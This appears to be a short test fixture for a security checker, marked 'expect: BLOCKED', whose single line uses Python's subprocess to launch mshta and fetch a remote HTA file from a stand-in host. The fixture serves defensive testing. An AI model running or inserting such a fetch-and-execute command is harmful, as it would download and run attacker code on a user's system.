# expect: BLOCKED
import subprocess
subprocess.Popen("mshta http://evil.test/a.hta", shell=True)
